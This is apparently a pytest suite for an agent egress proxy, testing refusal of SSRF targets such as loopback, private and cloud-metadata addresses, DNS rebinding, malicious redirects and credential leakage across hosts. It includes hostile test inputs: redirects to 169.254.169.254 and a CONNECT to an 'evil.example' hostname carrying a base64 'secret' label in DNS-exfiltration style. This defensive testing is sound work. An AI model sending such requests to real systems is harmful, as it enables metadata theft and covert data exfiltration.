"""A: what names resolve to, when they are asked for, and where an answer may send nobody (egress.md, 5)."""

import socket

import pytest

from proxy.errors import Code, Refusal
from tests.hostile.assertions import (
    absolute,
    clean,
    connect,
    failed,
    inside,
    refused,
    say,
    say_inside,
    untouched,
)
from tests.support import demo_rules
from tests.support.behaviours import raw, redirect
from tests.support.forbidden import Forbidden
from tests.support.resolver import ScriptedResolver
from tests.support.upstream import Upstream
from tests.support.wire import response
from tests.support.world import world

HERE, THERE = "127.0.0.1", "127.0.0.2"
PUBLIC = "8.8.8.8"  # vetted, and never dialled: every case with it is refused


@pytest.mark.parametrize(
    ("answers", "code"),
    [
        pytest.param((HERE,), Code.DEST_LOOPBACK, id="A13-loopback"),
        pytest.param(("10.1.2.3",), Code.DEST_PRIVATE, id="A13-private"),
        pytest.param(("fd00::1",), Code.DEST_PRIVATE, id="A13-ula"),
        pytest.param(("0.0.0.0",), Code.DEST_RESERVED, id="A13-this-host"),
        pytest.param((PUBLIC, "10.1.2.3"), Code.MIXED_ANSWER, id="A14-public-first"),
        pytest.param(("10.1.2.3", PUBLIC), Code.MIXED_ANSWER, id="A14-private-first"),
        pytest.param((PUBLIC, HERE), Code.MIXED_ANSWER, id="A14-loopback"),
        pytest.param(("169.254.169.254",), Code.DEST_METADATA, id="A17-metadata"),
        pytest.param(("64:ff9b::a9fe:a9fe",), Code.NAT64, id="A17-nat64-metadata"),
        pytest.param(("::ffff:127.0.0.1",), Code.EMBEDDED_V4, id="A17-mapped"),
        pytest.param(("fe80::1%lo",), Code.DEST_RESERVED, id="A17-zone"),
        pytest.param((PUBLIC, "fd00::1"), Code.MIXED_ANSWER, id="A18-aaaa-private"),
        pytest.param((PUBLIC, "::1"), Code.MIXED_ANSWER, id="A18-aaaa-loopback"),
    ],
)
async def test_every_answer_is_vetted_before_one_is_dialled(tmp_path, answers, code):
    resolver = ScriptedResolver({"api.test": [answers]})
    async with world(tmp_path, resolver=resolver, private=False) as w:
        await failed(w, await through(w), code)
        await untouched(w)
    assert resolver.journal == ["api.test"]


async def through(w):
    """One call in a tunnel to a port that is open without being opened privately."""
    return await say_inside(w, inside(w, "/"))


async def test_a13_metadata_is_opened_by_no_rule(tmp_path):
    resolver = ScriptedResolver({"api.test": [("169.254.169.254",)]})
    async with world(tmp_path, resolver=resolver, cidr="169.254.0.0/16") as w:
        await failed(w, await through(w), Code.DEST_METADATA)
        await untouched(w)


async def test_a13_a_private_host_is_opened_by_host_network_and_port_together(tmp_path):
    with Forbidden() as trap:
        async with world(tmp_path, observe=True) as w:
            allowed = await say_inside(w, inside(w, "/"))
            assert allowed.status == 200
            other = await say(w, absolute(w, f"http://api.test:{trap.port}/"))
            assert (other.status, other.json()["code"]) == (403, Code.DEST_LOOPBACK)
            await w.settled()
            assert [each.code for each in w.outcomes] == ["", Code.DEST_LOOPBACK]
        trap.assert_untouched()


@pytest.mark.parametrize("name", [pytest.param("api.test", id="A17-chain")])
async def test_a_name_that_does_not_resolve_is_bad_gateway(tmp_path, name):
    """A chain too long, a loop and a name without addresses look alike: the resolver has no answer."""
    too_long = Refusal(Code.DNS_ERROR, f"{name}: the chain of aliases does not end")
    async with world(tmp_path, resolver=ScriptedResolver({name: [too_long]})) as w:
        answer = await through(w)
        assert answer.status == 502
        await failed(w, answer, Code.DNS_ERROR, result="upstream_error")
        await untouched(w)


@pytest.mark.parametrize("empty", [pytest.param((), id="A17-empty")])
async def test_an_empty_answer_is_no_answer(tmp_path, empty):
    async with world(tmp_path, resolver=ScriptedResolver({"api.test": [empty]})) as w:
        await failed(w, await through(w), Code.DNS_ERROR, result="upstream_error")
        await untouched(w)


async def test_a15_one_request_is_one_look_up_and_the_first_address(tmp_path):
    resolver = ScriptedResolver({"api.test": [(HERE,), (THERE,)]})
    async with world(tmp_path, resolver=resolver, cidr=f"{HERE}/32") as w:
        with Forbidden(THERE, w.upstream.port) as trap:
            assert (await through(w)).status == 200
            assert resolver.journal == ["api.test"]
            trap.assert_untouched()
        await w.settled()
        assert [each.raw["what"]["upstream"]["ip"] for each in w.outcomes] == [HERE]


async def test_a16_rebinding_between_connect_and_request(tmp_path):
    """CONNECT resolves nothing, so there is no earlier answer that a later one could differ from."""
    resolver = ScriptedResolver({"api.test": [(THERE,)]})
    async with world(tmp_path, resolver=resolver, cidr=f"{HERE}/32") as w:
        with Forbidden(THERE, w.upstream.port) as trap:
            async with w.tunnel() as client:
                assert resolver.journal == []
                await client.send(inside(w, "/"))
                await failed(w, await client.read_response(), Code.DEST_LOOPBACK)
            trap.assert_untouched()
        await untouched(w)


@pytest.mark.parametrize("ending", [pytest.param("/vanish", id="A16-retry")])
async def test_a_second_connection_is_vetted_like_the_first(tmp_path, ending):
    """The kept connection dies under the second request; the retry resolves anew and meets the rebinding."""
    resolver = ScriptedResolver({"api.test": [(HERE,), (THERE,)]})
    async with world(tmp_path, resolver=resolver, cidr=f"{HERE}/32") as w:
        with Forbidden(THERE, w.upstream.port) as trap:
            async with w.tunnel() as client:
                await client.send(inside(w, "/"))
                assert (await client.read_response()).status == 200
                await client.send(inside(w, ending))
                answer = await client.read_response()
                assert (answer.status, answer.json()["code"]) == (403, Code.DEST_LOOPBACK)
            trap.assert_untouched()
        await w.settled()
        assert [each.code for each in w.outcomes] == ["", Code.DEST_LOOPBACK]
        assert resolver.journal == ["api.test", "api.test"]


async def test_a16_keep_alive_reuses_the_pinned_address_without_a_look_up(tmp_path):
    resolver = ScriptedResolver({"api.test": [(HERE,), (THERE,)]})
    async with world(tmp_path, resolver=resolver, cidr=f"{HERE}/32") as w:
        with Forbidden(THERE, w.upstream.port) as trap:
            async with w.tunnel() as client:
                for _ in range(3):
                    await client.send(inside(w, "/"))
                    assert (await client.read_response()).status == 200
            trap.assert_untouched()
        assert resolver.journal == ["api.test"]
        assert len(w.upstream.connections) == 1


async def test_a16_the_second_address_is_dialled_only_if_it_was_vetted(tmp_path):
    """The first address does not answer; the second is refused with the whole answer, before either is tried."""
    resolver = ScriptedResolver({"api.test": [(HERE, THERE)]})
    async with world(tmp_path, resolver=resolver, cidr=f"{HERE}/32") as w:
        with Forbidden(THERE, w.upstream.port) as trap:
            await failed(w, await through(w), Code.MIXED_ANSWER)
            trap.assert_untouched()
        await untouched(w)


@pytest.mark.parametrize(
    "location",
    [
        pytest.param("http://169.254.169.254/latest/", id="A19"),
        pytest.param("//169.254.169.254/latest/", id="A20-no-scheme"),
    ],
)
async def test_a_redirect_is_the_agents_next_request(tmp_path, location):
    up = Upstream("api.test")
    up.on("/go", redirect(location))
    async with world(tmp_path, upstream=up) as w:
        moved = await through_path(w, "/go")
        assert (moved.status, moved.get("location")) == (302, location)
        followed = await say(w, absolute(w, "http://169.254.169.254/latest/"))
        assert (followed.status, followed.json()["code"]) == (403, Code.DEST_METADATA)
        await w.settled()
        assert [(each.effect, each.code) for each in w.decisions] == [
            ("allow", ""),
            ("deny", Code.DEST_METADATA),
        ]
        assert len(w.upstream.connections) == 1


async def through_path(w, path, *headers, method="GET"):
    return await say_inside(w, inside(w, path, *headers, method=method))


async def test_a20_refresh_is_relayed_and_not_followed(tmp_path):
    up = Upstream("api.test")
    up.on("/go", raw(response(200, b"", (b"Refresh", b"0; url=http://127.0.0.1/")), close=False))
    async with world(tmp_path, upstream=up) as w:
        assert (await through_path(w, "/go")).get("refresh") == "0; url=http://127.0.0.1/"
        await w.settled()
        assert len(w.decisions) == 1


@pytest.mark.parametrize("code", [307, 308])
async def test_a20_the_credential_does_not_follow_to_another_host(tmp_path, code):
    """The agent follows a 307 with its placeholder; the new host has no credential, so nothing leaves."""
    up = Upstream("api.test")
    up.on("/go", redirect("https://other.test/take", code))
    policies = [demo_rules.permit("all", actions=("read", "write", "delete")), ANYTHING_AT_OTHER]
    with Forbidden() as trap:
        there = f"other.test:{trap.port}"
        egress = {"ports": [443, trap.port]}
        async with world(
            tmp_path, upstream=up, policies=policies, hosts={"other.test": [HERE]}, egress=egress
        ) as w:
            placeholder = f"Authorization: Bearer {w.placeholder}"
            assert (await through_path(w, "/go", placeholder, method="DELETE")).status == code
            async with await w.client() as client:
                assert (await client.open_tunnel(there, w.authorization)).status == 200
                await client.start_tls("other.test", cafile=w.keyring.ca_path)
                await client.send(inside(w, "/take", placeholder, method="DELETE", host=there))
                answer = await client.read_response()
            assert (answer.status, answer.json()["code"]) == (403, Code.PLACEHOLDER_HOST_MISMATCH)
            clean(w, answer.body)
        trap.assert_untouched()


ANYTHING_AT_OTHER = '@id("other") permit(principal, action, resource in Host::"other.test");'


async def test_a20_the_credential_does_not_follow_from_https_to_http(tmp_path):
    async with world(tmp_path) as w:
        answer = await say(w, absolute(w, f"http://{w.authority}/", f"Authorization: Bearer {w.placeholder}"))
        await refused(w, answer, Code.PLACEHOLDER_HOST_MISMATCH)


async def test_a21_a_name_that_leads_back_to_the_proxy_is_a_loop(tmp_path):
    with socket.create_server((HERE, 0)) as reserved:
        port = reserved.getsockname()[1]
    opened = [{"host": "loop.test", "cidr": "127.0.0.0/8", "port": port}]
    async with world(
        tmp_path,
        observe=True,
        listen=[{"address": f"{HERE}:{port}"}],
        hosts={"loop.test": [HERE]},
        egress={"allow_private": opened},
    ) as w:
        answer = await say(w, absolute(w, f"http://loop.test:{port}/"))
        assert answer.status == 508
        await failed(w, answer, Code.LOOP)


async def test_a26_a_denied_name_costs_no_dns_packet_in_a_tunnel(tmp_path):
    resolver = ScriptedResolver({"api.test": [(HERE,)]})
    async with (
        world(tmp_path, resolver=resolver, policies=[demo_rules.permit("none", actions=("read",))]) as w,
        w.tunnel() as client,
    ):
        await client.send(inside(w, "/", method="DELETE"))
        await refused(w, await client.read_response(), Code.DEFAULT_DENY)
    assert resolver.journal == []


async def test_a26_connect_alone_resolves_nothing(tmp_path):
    resolver = ScriptedResolver({})
    async with world(tmp_path, resolver=resolver) as w, await w.client() as client:
        await client.send(connect(w, f"c2VjcmV0.{'x' * 60}.evil.example:443"))
        assert (await client.read_head()).start[1] == b"200"
    assert resolver.journal == []
